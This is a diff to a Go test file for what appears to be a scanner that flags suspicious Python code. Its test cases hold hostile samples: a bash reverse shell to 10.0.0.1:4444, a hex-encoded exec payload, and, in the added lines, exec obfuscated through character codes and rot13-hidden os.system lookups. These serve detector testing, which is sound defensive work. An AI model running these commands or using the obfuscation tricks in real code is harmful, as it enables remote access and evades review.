@@ -76,6 +76,8 @@ func TestPython(t *testing.T) {
 		{"GetattrBuiltins", "import builtins\ngetattr(builtins, 'eval')('1')\n", "python-sink-on-load"},
 		{"ReverseShellString", "CMD = 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'\n", "python-suspicious-string"},
 		{"HexPayload", "import binascii\nexec(bytes.fromhex('" + strings.Repeat("", 0) + hexOf("import os; os.system('id')  # padding padding padding") + "'))\n", "python-encoded-payload"},
+		{"CharCodeList", "exec(''.join(chr(c) for c in [105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46, 115, 121, 115, 116, 101, 109]))\n", "python-obfuscated-name"},
+		{"Rot13", "import codecs\nf = getattr(__import__(codecs.decode('bf', 'rot13')), codecs.decode('flfgrz', 'rot13'))\n", "python-obfuscated-name"},
 		{"Unterminated", "x = 'abc\n", "python-unparsable"},
 		{"HelperOnly", "import subprocess\ndef run():\n    subprocess.run(['ls'])\n", "python-sink-in-function"},
 	}
